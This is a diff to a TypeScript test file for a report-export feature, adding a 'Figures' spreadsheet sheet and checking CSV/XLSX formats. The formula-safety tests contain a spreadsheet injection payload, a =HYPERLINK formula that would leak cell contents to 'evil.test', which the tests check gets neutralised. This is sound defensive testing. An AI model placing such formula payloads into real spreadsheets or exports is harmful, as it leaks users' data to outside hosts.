@@ -107,7 +107,7 @@ describe("the report's files", () => {
     expect(response.headers["content-disposition"]).toBe('attachment; filename="performance-report-2019-20.xlsx"');
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
-    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Priority 1", "Priority 2", "Priority 3", "Priority 4"]);
+    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Priority 1", "Priority 2", "Priority 3", "Priority 4", "Figures"]);
     const first = workbook.getWorksheet("Priority 1")!;
     expect(first.getRow(4).values).toEqual([undefined, "Ref", "Activities To Support This Priority", "Data Collation", "Quarter 1 Update", "Quarter 2 Update", "Quarter 3 Update", "Quarter 4 Update", "Trend/RAG"]);
     expect(first.views[0]).toMatchObject({ state: "frozen", ySplit: 4 });
@@ -127,22 +127,82 @@ describe("the report's files", () => {
     xlsx.eachSheet((sheet) => sheet.eachRow((row) => refs.push(row.getCell(1).value)));
     expect(refs).not.toContain("4.1 RESTRICTED");
     expect(refs).toContain("4.2");
+    const figures: unknown[] = [];
+    xlsx.getWorksheet("Figures")!.eachRow((row) => figures.push(row.getCell(2).value));
+    expect(figures).toContain("4.2");
+    expect(figures).not.toContain("4.1");
     expect((await fire.get(`/api/reports/${yearId}.tsv`)).body).not.toContain("IQUANTA");
     expect((await fire.get(`/api/reports/${yearId}.csv`)).body).not.toContain("IQUANTA");
   });
 
-  it("CSV: one row per indicator and quarter with the raw figures and state", async () => {
+  it("CSV: the long table of figures, one value per row, with the Figures sheet's columns", async () => {
     const response = await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`);
+    const [header, ...records] = parse(response.body) as string[][];
+    expect(header).toEqual(FIGURES_HEADER);
+    expect(records.every((record) => record.length === FIGURES_HEADER.length)).toBe(true);
     const rows = parse(response.body, { columns: true }) as Record<string, string>[];
-    expect(rows).toHaveLength(22 * 4);
-    expect(rows.find((candidate) => candidate.ref === "1.2" && candidate.quarter === "Q1")).toMatchObject({
-      year: "2019/20", status: "SUBMITTED", values: "positiveCompletions=72.6", reason: "", owner: "DTV Community Rehabilitation Company",
-    });
-    expect(rows.find((candidate) => candidate.ref === "1.2" && candidate.quarter === "Q2")).toMatchObject({ status: "NO_DATA", reason: "NOT_YET_AVAILABLE", availableFrom: "2019-10-28" });
-    expect(rows.find((candidate) => candidate.ref === "4.1" && candidate.quarter === "Q1")!.values).toBe("rank=9/15; againstAverage=Performing above MSG average level");
-    expect(rows.find((candidate) => candidate.ref === "4.3" && candidate.quarter === "Q4")).toMatchObject({ status: "DRAFT", values: "" });
+    const row = (ref: string, quarter: string, field?: string) => rows.filter((candidate) => candidate.Ref === ref && candidate.Quarter === quarter && (!field || candidate.Field === field));
+    expect(row("1.2", "Q1")).toEqual([
+      expect.objectContaining({
+        Year: "2019/20", Status: "Submitted", Field: "Positive completions", Value: "0.726", Unit: "percentage (1 = 100%)", "No data reason": "", Organisation: "DTV Community Rehabilitation Company",
+      }),
+    ]);
+    expect(row("1.2", "Q2")[0]).toMatchObject({ Status: "No data", "No data reason": "Not available yet", Expected: "2019-10-28", Value: "" });
+    // A rank: its position and "out of" in their own columns; its words in a row of their own.
+    expect(row("4.1", "Q1").map((candidate) => [candidate.Field, candidate.Value, candidate["Out of"]])).toEqual([
+      ["Rank among the most similar group of CSPs", "9", "15"],
+      ["Performance against the most similar group's average", "Performing above MSG average level", ""],
+    ]);
+    // Four figures, one value each: nothing packed into one cell.
+    const iom = (await test.db.prisma.indicator.findFirstOrThrow({ where: { title: { startsWith: "Monitor the number of reoffenders" } } })).ref!;
+    expect(row(iom, "Q1").map((candidate) => [candidate.Field, candidate.Value])).toEqual([
+      ["Crimes committed by IOM nominals", "118"],
+      ["Nominals who committed crimes with a positive outcome", "18"],
+      ["Crimes linked with a positive outcome", "42"],
+      ["Average re-offences per nominal in the cohort", "2.8"],
+    ]);
+    expect(rows.some((candidate) => /=|;/.test(candidate.Value!))).toBe(false);
+    expect(row("4.3", "Q4")[0]).toMatchObject({ Status: "Draft", Value: "" });
+  });
+
+  it("XLSX: a Figures sheet of number cells with their formats, filterable under a frozen heading", async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
+    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Priority 1", "Priority 2", "Priority 3", "Priority 4", "Figures"]);
+    const sheet = workbook.getWorksheet("Figures")!;
+    expect(sheet.getRow(1).values).toEqual([undefined, ...FIGURES_HEADER]);
+    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
+    expect(sheet.autoFilter).toBe("A1:R1");
+    const column = (header: string) => FIGURES_HEADER.indexOf(header) + 1;
+    const rowOf = (ref: string, quarter: string) => {
+      const found: ExcelJS.Row[] = [];
+      sheet.eachRow((row) => row.getCell(column("Ref")).value === ref && row.getCell(column("Quarter")).value === quarter && found.push(row));
+      return found;
+    };
+    // 72.6% is kept as the fraction 0.726, shown as a percentage: what a spreadsheet stores when 72.6% is typed.
+    const completions = rowOf("1.2", "Q1")[0]!.getCell(column("Value"));
+    expect(completions.type).toBe(ExcelJS.ValueType.Number);
+    expect(completions.value).toBe(0.726);
+    expect(completions.numFmt).toBe("0.0%");
+    const incidents = rowOf("4.2", "Q1")[0]!;
+    expect([incidents.getCell(column("Value")).value, incidents.getCell(column("Value")).numFmt]).toEqual([2424, "#,##0"]);
+    expect([incidents.getCell(column("Same quarter last year")).value, incidents.getCell(column("Same quarter last year")).numFmt]).toEqual([2767, "#,##0"]);
+    const iom = (await test.db.prisma.indicator.findFirstOrThrow({ where: { title: { startsWith: "Monitor the number of reoffenders" } } })).ref!;
+    const average = rowOf(iom, "Q1")[3]!.getCell(column("Value"));
+    expect([average.value, average.numFmt]).toEqual([2.8, "#,##0.0"]);
+    const rank = rowOf("4.1", "Q1")[0]!;
+    expect([rank.getCell(column("Value")).value, rank.getCell(column("Out of")).value]).toEqual([9, 15]);
+    expect(rowOf("4.1", "Q1")[1]!.getCell(column("Value")).type).toBe(ExcelJS.ValueType.String);
+    const expected = rowOf("1.2", "Q2")[0]!.getCell(column("Expected"));
+    expect(expected.value).toEqual(new Date("2019-10-28T00:00:00Z"));
+    expect(expected.numFmt).toBe("d mmm yyyy");
   });
 });
+
+const FIGURES_HEADER = [
+  "Priority", "Ref", "Indicator", "Organisation", "Restricted", "Year", "Quarter", "Field", "Value", "Unit", "Out of", "Same quarter last year",
+  "Status", "No data reason", "No data explanation", "Expected", "Period covered", "Commentary",
+];
 
 describe("the report's files never hold a formula", () => {
   const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
@@ -166,7 +226,7 @@ describe("the report's files never hold a formula", () => {
 
   it("CSV: formula text starts with an apostrophe; plain numbers stay numbers", async () => {
     const rows = parse((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`)).body, { columns: true }) as Record<string, string>[];
-    const commentary = (ref: string) => rows.find((candidate) => candidate.ref === ref && candidate.quarter === "Q4")!.commentary;
+    const commentary = (ref: string) => rows.find((candidate) => candidate.Ref === ref && candidate.Quarter === "Q4")!.Commentary;
     expect(commentary("2.1")).toBe(`'${HYPERLINK}`);
     expect(commentary("2.3")).toBe(`'${DDE}`);
     expect(commentary("3.2")).toBe("-2.5%");
@@ -188,11 +248,16 @@ describe("the report's files never hold a formula", () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
     const q4 = new Map<unknown, unknown>();
-    workbook.eachSheet((sheet) => sheet.eachRow((row) => q4.set(row.getCell(1).value, row.getCell(7).value)));
+    for (let number = 1; number <= 4; number++) workbook.getWorksheet(`Priority ${number}`)!.eachRow((row) => q4.set(row.getCell(1).value, row.getCell(7).value));
     expect(q4.get("2.1")).toBe(`'${HYPERLINK}`);
     expect(q4.get("2.3")).toBe(`'${DDE}`);
     expect(q4.get("3.2")).toBe("-2.5%");
     expect(q4.get("1.7")).toBe("-3");
+    const figures = new Map<unknown, unknown>();
+    workbook.getWorksheet("Figures")!.eachRow((row) => row.getCell(7).value === "Q4" && figures.set(row.getCell(2).value, row.getCell(18).value));
+    expect(figures.get("2.1")).toBe(`'${HYPERLINK}`);
+    expect(figures.get("2.3")).toBe(`'${DDE}`);
+    expect(figures.get("3.2")).toBe("-2.5%");
     const formulas: string[] = [];
     workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
     expect(formulas).toEqual([]);
